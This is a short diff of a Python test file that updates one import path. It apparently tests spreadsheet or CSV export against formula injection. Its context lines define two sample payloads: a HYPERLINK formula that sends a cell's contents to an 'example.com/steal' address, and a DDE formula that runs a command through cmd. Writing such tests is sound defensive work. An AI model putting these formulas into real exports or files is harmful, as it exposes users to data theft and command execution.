@@ -12,7 +12,7 @@ from typing import Any
 import pytest
 
 from conftest import small_plan
-from dakplan.tabular import BOM, as_text
+from dakplan.outputs.tables import BOM, as_text
 
 HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1,"Bấm vào đây")'
 DDE = "=cmd|' /C calc'!A0"
